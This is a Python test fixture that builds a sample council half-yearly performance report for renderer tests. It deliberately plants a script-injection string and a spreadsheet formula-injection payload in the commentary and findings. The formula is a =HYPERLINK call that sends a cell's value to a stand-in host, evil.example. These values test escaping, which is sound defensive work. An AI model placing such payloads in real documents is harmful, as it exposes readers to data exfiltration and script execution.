"""A realistic report built from plain data, shared by the renderer tests.

A half-yearly performance report for Cabinet in the shape of the Rossendale framework:
indicators with targets, RAG statuses and directions of travel, a trend, a risk heat
map, findings from the thread checks, and commentary typed by an officer — including
text that tries to be markup or a spreadsheet formula.
"""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

from goldenthread.findings import Finding, Severity
from goldenthread.reports import (
    BarChart,
    Cell,
    Column,
    Commentary,
    Findings,
    HeatMap,
    KeyValue,
    KeyValues,
    LineChart,
    Paragraph,
    Report,
    Section,
    Series,
    Status,
    Table,
)

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
AS_AT = dt.datetime(2024, 10, 31, 17, 0, tzinfo=dt.UTC)
GENERATED = dt.datetime(2024, 11, 1, 9, 30, tzinfo=dt.UTC)

INDICATOR_COLUMNS = (
    Column("code", "Code"),
    Column("title", "Indicator"),
    Column("value", "2024/25 H1", "number", decimals=1),
    Column("target", "Target", "number", decimals=1),
    Column("status", "Status", "status"),
    Column("direction", "Direction of travel", "direction"),
    Column("spend", "Net spend", "money"),
)

INDICATORS = (
    (
        "BV 12",
        "Working days lost to sickness absence per FTE",
        "4.6",
        "4.5",
        "amber",
        "worsening",
        "-1250.5",
    ),
    ("BV 82a", "Household waste recycled (%)", "23.45", "22", "green", "improving", "1234567.891"),
    ("BV 78a", "Days to process new benefit claims", "31.2", "28", "red", "improving", "0"),
    ("LPI 4", "Empty homes brought back into use", None, "40", "no-data", None, None),
    ("LPI 9", "Visits to leisure centres", "212000", None, "data-only", "increasing", "15000"),
)


def indicator_table(rows: int | None = None) -> Table:
    """The indicator table; ``rows`` repeats the sample rows to that many (benchmarks)."""
    base = list(INDICATORS)
    if rows is not None:
        base = [(f"PI {n}", *INDICATORS[n % len(INDICATORS)][1:]) for n in range(1, rows + 1)]
    return Table(
        "Corporate indicators, 2024/25 H1",
        INDICATOR_COLUMNS,
        [
            (
                code,
                title,
                None if value is None else Decimal(value),
                None if target is None else Decimal(target),
                Status(status),
                Cell(direction=direction) if direction else Cell(text="not comparable"),
                None if spend is None else Decimal(spend),
            )
            for code, title, value, target, status, direction, spend in base
        ],
    )


def sample_report(classification: str = "public", indicator_rows: int | None = None) -> Report:
    """The sample half-yearly performance report."""
    return Report(
        kind="performance",
        title="Half-yearly performance report",
        organisation="Rossendale Borough Council (example)",
        period_label="2024/25 H1",
        as_at=AS_AT,
        generated_at=GENERATED,
        generated_for="Cabinet",
        classification=classification,
        sections=[
            Section(
                "Summary",
                [
                    Paragraph(
                        "This report sets out progress against the Corporate Plan for the "
                        "first half of 2024/25."
                    ),
                    KeyValues(
                        [
                            KeyValue("Indicators reported", 5, "number"),
                            KeyValue("On or better than target", Decimal("40.0"), "percent"),
                            KeyValue("Net spend to date", Decimal("1234567.891"), "money"),
                            KeyValue("Data as at", AS_AT),
                        ],
                        title="At a glance",
                    ),
                ],
                id="summary",
            ),
            Section(
                "Corporate indicators",
                [
                    indicator_table(indicator_rows),
                    Commentary(
                        f"Sickness absence rose in Q2. {SCRIPT}\nSee {FORMULA}",
                        author="Head of People | HR",
                        date=dt.date(2024, 10, 14),
                    ),
                    Commentary(FORMULA),
                    BarChart(
                        "Days to process new benefit claims by quarter",
                        "Bar chart: Q1 29.5 days, Q2 32.9 days; both above the 28 day target.",
                        [("Q1", Decimal("29.5")), ("Q2", Decimal("32.9"))],
                        kind="number",
                        decimals=1,
                        unit="days",
                    ),
                    LineChart(
                        "Household waste recycled",
                        "Line chart: recycling rose from 21% to 23.5% over four quarters, "
                        "above the 22% target since Q4 2023/24.",
                        [
                            Series(
                                "Actual",
                                [
                                    ("2023/24 Q3", Decimal("21.0")),
                                    ("2023/24 Q4", Decimal("22.4")),
                                    ("2024/25 Q1", None),
                                    ("2024/25 Q2", Decimal("23.5")),
                                ],
                            ),
                            Series(
                                "Target",
                                [
                                    ("2023/24 Q3", 22),
                                    ("2023/24 Q4", 22),
                                    ("2024/25 Q1", 22),
                                    ("2024/25 Q2", 22),
                                ],
                            ),
                        ],
                        kind="percent",
                        decimals=1,
                    ),
                ],
                id="indicators",
            ),
            Section(
                "Risks",
                [
                    HeatMap(
                        "Current risk ratings",
                        "Heat map: 7 risks; 2 high (likelihood 4, impact 4 and 5), "
                        "3 medium, 2 low.",
                        row_axis="Likelihood",
                        column_axis="Impact",
                        row_labels=["4 Likely", "3 Possible", "2 Unlikely"],
                        column_labels=["3 Moderate", "4 Major", "5 Severe"],
                        counts=[[0, 1, 1], [2, 0, 1], [1, 1, 0]],
                        levels=[
                            ["Medium", "High", "High"],
                            ["Medium", "Medium", "High"],
                            ["Low", "Medium", "Medium"],
                        ],
                        colours=[
                            ["#ffdd00", "#b10e1e", "#b10e1e"],
                            ["#ffdd00", "#ffdd00", "#b10e1e"],
                            ["#00703c", "#ffdd00", "#ffdd00"],
                        ],
                    ),
                    Findings(
                        [
                            Finding(
                                "current-above-inherent",
                                Severity.ERROR,
                                "R7",
                                "Current rating 16 is above the inherent rating 12.",
                            ),
                            Finding("orphan", Severity.WARNING, "A12", f"No parent {SCRIPT}"),
                        ],
                        caption="Risk register findings",
                    ),
                ],
            ),
        ],
    )
